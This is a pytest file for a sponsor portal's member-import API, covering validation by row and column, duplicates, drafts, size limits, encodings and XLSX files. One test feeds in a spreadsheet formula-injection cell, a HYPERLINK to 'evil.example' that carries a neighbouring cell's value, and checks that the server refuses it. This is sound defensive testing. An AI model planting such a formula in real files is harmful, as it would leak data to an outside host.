"""A sponsor's member file through the API: every problem named by row and column, nothing invited until clean,
the draft kept for a corrected file; formulas, size, wrong columns and encodings get a clear answer."""
import io

from sqlalchemy import func, select

from app.models import Invitation, SponsorImport
from tests.sponsors.conftest import csv_of

GOOD = ("Ali Raza,35202-1234567-1,ali@example.pk,0300-1234567,Jazz,,,,VPN to our client in Germany",
        "Sana Iqbal,3520298765431,sana@example.pk,,,,,39.32.12.0/24,VPN to our client in Dubai")


def upload(client, content: bytes, filename: str = "members.csv", url: str = "/api/v1/sponsor/imports"):
    return client.post(url, data={"file": (io.BytesIO(content), filename)}, content_type="multipart/form-data")


def invitations(db) -> int:
    return db.session.scalar(select(func.count()).select_from(Invitation))


def test_a_clean_file_invites_every_member_and_sends_their_messages(db, app, api, make_sponsor, run_worker):
    _sponsor, user = make_sponsor()
    response = upload(api(user), csv_of(*GOOD))
    assert response.status_code == 201, response.json
    assert response.json["state"] == "imported" and response.json["invitations"] == 2
    assert response.json["encoding"] == "utf-8" and response.json["problems"] == []
    stored = db.session.scalars(select(Invitation).order_by(Invitation.row)).all()
    assert [(i.row, i.email, i.cnic) for i in stored] == [(2, "ali@example.pk", "35202-1234567-1"),
                                                          (3, "sana@example.pk", "35202-9876543-1")]
    assert stored[0].proposal["mobile"] == "+923001234567" and stored[0].proposal["operator"] == "Jazz"
    assert stored[1].proposal["addresses"] == ["39.32.12.0/24"]
    assert not any(len(i.token_hash) != 64 for i in stored)
    run_worker()
    instance = app.config["INSTANCE_DIR"]
    mails = sorted(p.read_text() for p in (instance / "mail").glob("*.eml"))
    assert len(mails) == 2 and any("To: ali@example.pk" in m and "/invitations/" in m for m in mails)
    texts = [p for p in (instance / "sms").glob("*.txt")]
    assert [p.name.split("-")[0] for p in texts] == ["923001234567"] and "/invitations/" in texts[0].read_text()


def test_every_problem_is_named_by_row_and_column_and_nothing_is_invited(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    content = csv_of(
        "Ali Raza,35202-1234567,ali@example,0300-12345,Mobilink,,,,VPN",
        "Sana Iqbal,35202-9876543-1,sana@example.pk,,,,,39.32.999.0/24,VPN to our client in Dubai",
        "Sana Twin,35202-9876543-1,sana@example.pk,,,,,,",
        "Bilal,35202-1111111-1,bilal@example.pk,,,,,10.0.0.0/8 39.32.12.0/24,VPN to our client in Oman",
        "Omar,35202-2222222-1,omar@example.pk,,,,,39.32.12.128/25,VPN to our client in Qatar")
    response = upload(api(user), content)
    assert response.status_code == 422
    problems = response.json["error"]["details"]["problems"]
    named = {(p["row"], p["column"], p["code"]) for p in problems}
    assert {(2, "cnic", "cnic.format"), (2, "email", "email.invalid"), (2, "mobile", "mobile.invalid"),
            (2, "operator", "operator.unknown"), (2, "purpose", "purpose.invalid")} <= named
    assert any(r == 3 and c == "addresses" for r, c, _ in named)
    assert (4, None, "row.no_connection") in named
    assert any(r == 5 and c == "addresses" for r, c, _ in named)  # 10.0.0.0/8: private space
    row2 = {p["column"]: p["message"] for p in problems if p["row"] == 2}
    assert "35202-1234567" in row2["cnic"] and "Mobilink" in row2["operator"]
    assert invitations(db) == 0
    kept = db.session.get(SponsorImport, response.json["error"]["details"]["import_id"])
    assert kept.state == "draft" and kept.content == content and len(kept.problems) == len(problems)


def test_duplicates_inside_the_file_and_against_the_portal(db, api, make_sponsor, approved_application):
    _sponsor, user = make_sponsor()
    approved_application(["39.40.0.0/24"])
    client = api(user)
    assert upload(client, csv_of(GOOD[0])).status_code == 201
    response = upload(client, csv_of(
        "Ali Again,35202-5555555-1,ali@example.pk,,,,,39.41.0.0/24,VPN to our client in Germany",
        "Zara,35202-6666666-1,zara@example.pk,,,,,39.40.0.10,VPN to our client in Germany",
        "Zain,35202-7777777-1,zain@example.pk,,,,,39.41.0.0/25,VPN to our client in Germany",
        "Zain Twin,35202-7777777-1,ZAIN@example.pk,,,,,39.42.0.0/24,VPN to our client in Germany"))
    assert response.status_code == 422
    named = {(p["row"], p["column"], p["code"]) for p in response.json["error"]["details"]["problems"]}
    assert (2, "email", "email.invited") in named
    assert (3, "addresses", "addresses.approved") in named
    assert (4, "addresses", "addresses.duplicate") in named
    assert (5, "email", "email.duplicate") in named and (5, "cnic", "cnic.duplicate") in named
    assert invitations(db) == 1


def test_the_draft_is_downloaded_back_and_a_corrected_file_imports_it(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    client = api(user)
    bad = csv_of(GOOD[0].replace("0300-1234567", "0300-12"), GOOD[1])
    refused = upload(client, bad)
    import_id = refused.json["error"]["details"]["import_id"]
    back = client.get(f"/api/v1/sponsor/imports/{import_id}/file")
    assert back.status_code == 200 and back.data == bad and "attachment" in back.headers["Content-Disposition"]
    fixed = upload(client, csv_of(*GOOD), url=f"/api/v1/sponsor/imports/{import_id}/file")
    assert fixed.status_code == 200 and fixed.json["id"] == import_id and fixed.json["state"] == "imported"
    assert invitations(db) == 2
    again = upload(client, csv_of(*GOOD), url=f"/api/v1/sponsor/imports/{import_id}/file")
    assert again.status_code == 409 and invitations(db) == 2


def test_formulas_are_refused_by_row_and_column_but_a_plus_92_number_is_a_number(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    response = upload(api(user), csv_of(
        '=HYPERLINK("http://evil.example/?x="&B2;"Ali"),35202-1234567-1,ali@example.pk,+92 300 1234567,Jazz,,,,'
        'VPN to our client in Germany',
        "Sana,@SUM(1+1),sana@example.pk,+92 301 1234567,Jazz,,,,-2+3"))
    assert response.status_code == 422
    named = {(p["row"], p["column"], p["code"]) for p in response.json["error"]["details"]["problems"]}
    assert named == {(2, "name", "cell.formula"), (3, "cnic", "cell.formula"), (3, "purpose", "cell.formula")}
    assert invitations(db) == 0


def test_a_file_over_the_limit_is_a_413_naming_the_limit_and_keeps_nothing(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    big = csv_of(*GOOD) + b"#" * (50 * 1024 * 1024)
    response = upload(api(user), big)
    assert response.status_code == 413
    assert "5 MB" in response.json["error"]["message"] and "5,000" in response.json["error"]["message"]
    assert db.session.scalar(select(func.count()).select_from(SponsorImport)) == 0 and invitations(db) == 0


def test_wrong_and_missing_columns_are_named(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    response = upload(api(user), csv_of("Ali,ali@example.pk,Lahore", header="Full Name,E-mail,City\n"))
    assert response.status_code == 422
    messages = " ".join(p["message"] for p in response.json["error"]["details"]["problems"])
    assert "'Full Name'" in messages and "'E-mail'" in messages and "'City'" in messages
    assert "name, cnic, email" in messages and all(p["row"] == 1 for p in
                                                   response.json["error"]["details"]["problems"])


def test_utf8_with_bom_and_windows_1252_are_read_and_said_and_a_mixed_file_is_refused(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    client = api(user)
    row = "Zoë Müller,35202-1234567-1,zoe@example.pk,,,,,39.32.12.0/24,VPN to our client in Germany\n"
    bom = upload(client, b"\xef\xbb\xbf" + csv_of().replace(b"\n", b"\r\n") + row.encode("utf-8"))
    assert bom.status_code == 201 and bom.json["encoding"] == "utf-8-sig"
    other = "Renée Çelik,35202-2234567-1,renee@example.pk,,,,,39.32.13.0/24,VPN to our client in Germany\n"
    windows = upload(client, csv_of() + other.encode("cp1252"))
    assert windows.status_code == 201 and windows.json["encoding"] == "cp1252"
    names = set(db.session.scalars(select(Invitation.name)))
    assert names == {"Zoë Müller", "Renée Çelik"}
    mixed = csv_of() + row.replace("zoe@", "z2@").replace("1234567-1", "3234567-1").replace(
        "12.0", "14.0").encode("utf-8") + other.replace("renee@", "r2@").replace("2234567", "4234567").replace(
        "13.0", "15.0").encode("cp1252")
    refused = upload(client, mixed)
    assert refused.status_code == 422 and "line 2" in refused.json["error"]["message"]
    assert "line 3" in refused.json["error"]["message"] and "CSV UTF-8" in refused.json["error"]["message"]
    assert len(names) == 2 == invitations(db)


def test_an_xlsx_file_is_read_and_its_formula_cells_refused(db, api, make_sponsor):
    from openpyxl import Workbook

    _sponsor, user = make_sponsor()
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Name", "CNIC", "Email", "Addresses", "Purpose"])
    sheet.append(["Ali Raza", 3520212345671, "ali@example.pk", "39.32.12.0/24", "VPN to our client in Germany"])
    sheet.append(["Sana", "35202-9876543-1", "sana@example.pk", "=1+1", "VPN to our client in Dubai"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = upload(api(user), buffer.getvalue(), filename="members.xlsx")
    assert response.status_code == 422
    assert [(p["row"], p["column"], p["code"]) for p in response.json["error"]["details"]["problems"]] == [
        (3, "addresses", "cell.formula")]
    sheet.delete_rows(3)
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = upload(api(user), buffer.getvalue(), filename="members.xlsx")
    assert response.status_code == 201 and response.json["format"] == "xlsx"
    assert db.session.scalar(select(Invitation.cnic)) == "35202-1234567-1"


def test_a_sponsor_not_approved_cannot_import(db, api, make_sponsor):
    _sponsor, user = make_sponsor(approved=False)
    response = upload(api(user), csv_of(*GOOD))
    assert response.status_code == 403 and "approve" in response.json["error"]["message"]
    assert invitations(db) == 0


def test_imports_are_listed_newest_first_and_only_ones_own(db, api, make_sponsor):
    _sponsor, user = make_sponsor()
    _other, other_user = make_sponsor()
    client = api(user)
    upload(client, csv_of(GOOD[0]), filename="first.csv")
    upload(client, csv_of(GOOD[1].replace("3520298765431", "35202-1111111-1")), filename="second.csv")
    upload(api(other_user), csv_of(GOOD[0]), filename="theirs.csv")
    assert [i["filename"] for i in client.get("/api/v1/sponsor/imports").json] == ["second.csv", "first.csv"]
